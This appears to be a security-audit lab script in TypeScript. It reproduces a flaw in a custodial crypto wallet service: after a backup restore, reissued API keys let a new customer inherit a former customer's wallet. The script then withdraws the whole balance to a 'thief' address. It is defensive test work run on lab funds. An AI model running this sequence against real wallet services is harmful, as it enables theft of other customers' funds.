import { join } from 'node:path'
import type { Attack, Findings } from '../attack.ts'

const SOL = 1_000_000_000
const SCOPES = 'read,trade,wallet'
const NEXT_CUSTOMERS = 3

/** A customer who came after the backup: whose are its wallets once the backup is back? */
export const restoreGames: Attack = {
  name: 'restore-games',
  finding: '2',
  async run(lab): Promise<Findings> {
    const { target } = await lab.served()
    const got: string[] = []
    const taken: string[] = []
    const create = (label: string) =>
      target.createKey('--tier', 'enterprise', '--limit', '1000000', '--scopes', SCOPES, '--label', label)
    const backup = join(target.dataDir, '..', 'backup')
    const made = await target.cli('backup', backup)
    const victim = await create('victim')
    const safe = lab.keypair('safe').address
    const hers = await lab.walletOf(target, victim.key, 'alice', { withdraw_to: [safe] })
    await lab.airdrop(hers.address, 2 * SOL)
    got.push(`backup: exit ${made.code}; then the victim's key has id ${victim.id}, wallet ${hers.address}, 2 SOL`)
    await target.stop()
    const restored = await target.cli('restore', backup, '--replace')
    got.push(`restore: exit ${restored.code} ${restored.code === 0 ? '' : restored.err.slice(0, 200)}`)
    const others = []
    for (let i = 0; i < NEXT_CUSTOMERS; i++) others.push(await create(`next ${i}`))
    await target.start()
    for (const { id, key } of others) {
      const wallet = await lab.walletOf(target, key, 'alice')
      const isHers = wallet.address === hers.address
      got.push(`next customer, id ${id}: wallet ${wallet.address}${isHers ? " = the victim's" : ''}`)
      if (!isHers) continue
      const to = lab.keypair('thief').address
      const { status } = await target.as(key, `/v1/wallets/${wallet.id}/withdraw`, { body: { to, amount: 'max' } })
      const stolen = await lab.lamportsOf(to)
      got.push(`withdraw of all to somebody else: ${status}, ${stolen} lamports`)
      taken.push(`a former customer's wallet, ${stolen} lamports of it`)
    }
    return { tried: 'backup, new key and wallet, restore, new keys with the same user', got, taken, lost: [] }
  },
}
